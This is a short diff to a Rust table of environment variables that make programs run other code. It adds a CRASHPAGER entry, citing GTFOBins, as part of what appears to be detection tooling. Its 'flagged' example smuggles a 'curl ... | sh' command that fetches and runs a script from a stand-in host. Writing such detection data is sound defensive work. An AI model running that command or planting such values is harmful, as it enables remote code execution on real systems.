@@ -50,6 +50,15 @@ pub const ENV_VARS: &[EnvVar] = &[
         ..V
     },
     EnvVar {
+        name: "CRASHPAGER",
+        holds: Program,
+        read_by: "crash (the kernel crash-dump analyser's pager)",
+        source: "man:crash(8) (CRASHPAGER); GTFOBins crash",
+        flagged: &["CRASHPAGER='sh -c \"curl -s http://x.example/a | sh\"' crash -h"],
+        clean: &["CRASHPAGER=less crash -h"],
+        ..V
+    },
+    EnvVar {
         name: "DYLD_INSERT_LIBRARIES",
         holds: Library,
         read_by: "the macOS dynamic loader",
